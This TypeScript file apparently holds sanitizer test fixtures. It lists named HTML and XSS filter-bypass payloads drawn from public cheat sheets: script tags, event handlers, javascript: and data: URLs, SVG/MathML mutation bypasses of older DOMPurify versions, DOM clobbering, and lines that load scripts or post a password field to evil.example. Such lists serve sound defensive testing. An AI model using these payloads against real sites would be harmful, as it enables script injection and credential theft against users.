/**
 * Published bypasses of HTML filters by technique: the OWASP XSS filter evasion cheat sheet, the HTML5 security cheat
 * sheet (html5sec.org), PortSwigger's XSS cheat sheet and DOMPurify's published bypasses. `alert(1)` stands for the
 * payload.
 */
export const ARTICLE_ATTACKS: readonly (readonly [name: string, html: string])[] = [
  // Script elements
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script without an end', '<script>alert(1)'],
  ['script with a slash for a space', '<script/x>alert(1)</script/x>'],
  ['script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script as a module', '<script type="module">import("https://evil.example/x.js")</script>'],
  ['script after an open quote', '<img """><script>alert(1)</script>">'],
  ['extraneous open bracket', '<<script>alert(1);//<</script>'],
  ['null byte in the name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],

  // Event handlers
  ['image error handler', '<img src=x onerror=alert(1)>'],
  ['handler without spaces', '<img/src=x/onerror=alert(1)>'],
  ['handler after a line break', '<img src=x\nonerror\n=\nalert(1)>'],
  ['handler in upper case', '<IMG SRC=x ONERROR="alert(1)">'],
  ['handler with entities', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">'],
  ['back-tick attribute', '<img src=`x` onerror=alert(1)>'],
  ['body load handler', '<body onload=alert(1)>'],
  ['toggle handler', '<details open ontoggle=alert(1)>x</details>'],
  ['focus handler', '<a href="/x" autofocus onfocus=alert(1) tabindex=1>x</a>'],
  ['pointer handler', '<div onpointerenter=alert(1)>x</div>'],
  ['animation handler', '<p style="animation-name:x" onanimationstart="alert(1)">x</p>'],
  ['marquee handler', '<marquee onstart=alert(1)>x</marquee>'],
  ['video source handler', '<video><source onerror="alert(1)"></video>'],
  ['audio error handler', '<audio src=x onerror=alert(1)>'],
  [
    'search of a hidden input',
    '<input type="hidden" oncontentvisibilityautostatechange="alert(1)">',
  ],
  ['popover handler', '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>'],

  // Script addresses
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript: with an encoded tab', '<a href="java&#x09;script:alert(1)">x</a>'],
  ['javascript: with an encoded line break', '<a href="java&#x0A;script:alert(1)">x</a>'],
  ['javascript: with named entities', '<a href="java&NewLine;script&colon;alert(1)">x</a>'],
  ['javascript: behind a control character', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['javascript: behind white space', '<a href=" \u2028javascript:alert(1)">x</a>'],
  ['javascript: in decimal entities', '<a href="&#106;avascript&#58;alert(1)">x</a>'],
  ['javascript: image', '<img src="javascript:alert(1)">'],
  [
    'javascript: in a low source',
    '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  ],
  ['javascript: background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['javascript: citation', '<blockquote cite="javascript:alert(1)">x</blockquote>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: document', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  [
    'data: document in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ],
  ['data: picture with script', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['ping elsewhere', '<a href="/x" ping="https://evil.example/">x</a>'],
  ['base element', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
  [
    'link that keeps its opener',
    '<a href="https://evil.example/" target="_blank" rel="opener">x</a>',
  ],
  ['named frame as a target', '<a href="https://evil.example/" target="admin">x</a>'],

  // Foreign documents and plug-ins
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe to javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['applet', '<applet code="javascript:alert(1)"></applet>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['portal', '<portal src="https://evil.example/"></portal>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['html import', '<link rel="import" href="https://evil.example/x.html">'],

  // SVG and MathML
  ['svg load handler', '<svg onload=alert(1)></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  [
    'svg animated address',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  ],
  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>'],
  ['svg foreign object', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['svg style mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['math link', '<math><a xlink:href="javascript:alert(1)">x</a></math>'],
  [
    'math action',
    '<math><maction actiontype="statusline#https://evil.example/">x</maction></math>',
  ],
  [
    'math namespace mutation (DOMPurify below 2.0.17)',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    'math table mutation (DOMPurify below 2.1)',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],

  // Mutation and parser confusion
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea mutation', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['title mutation', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'],
  ['noembed mutation', '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['xmp mutation', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['comment mutation', '<!--><img src=x onerror=alert(1)>-->'],
  ['comment ended early', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['processing instruction', '<?xml-stylesheet ><img src=x onerror=alert(1)> ?>'],
  ['character data section', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['attribute that closes itself', '<p title="x/><img src=y onerror=alert(1)>">x</p>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  [
    'declarative shadow root',
    '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  ],
  [
    'select mutation',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  ],

  // Style
  ['style element', '<style>body{background:url("https://evil.example/")}</style>'],
  ['style import', '<style>@import "https://evil.example/x.css";</style>'],
  ['style attribute over the page', '<div style="position:fixed;inset:0;z-index:999">x</div>'],
  ['style with an address', '<p style="background:url(https://evil.example/)">x</p>'],
  ['style expression', '<p style="width:expression(alert(1))">x</p>'],
  ['class of the page', '<a class="visually-hidden container" href="/x">x</a>'],

  // Forms, and names that shadow the document's own
  [
    'form that posts elsewhere',
    '<form action="https://evil.example/"><input name=password></form>',
  ],
  ['button with an action', '<button formaction="javascript:alert(1)">x</button>'],
  [
    'keygen and select',
    '<select autofocus onfocus=alert(1)></select><keygen autofocus onfocus=alert(1)>',
  ],
  ['clobbered attributes', '<form><input name=attributes><img src=x onerror=alert(1)></form>'],
  [
    'clobbered document property',
    '<img name="getElementById"><a id="location" href="https://evil.example/">x</a>',
  ],
  ['custom element', '<x-evil onclick=alert(1) is="x">x</x-evil>'],
  ['editable region', '<div contenteditable autofocus onfocus=alert(1)>x</div>'],
  [
    'srcset that loads elsewhere',
    '<img srcset="https://evil.example/x.png 1x" src="/a.webp" alt="">',
  ],
];
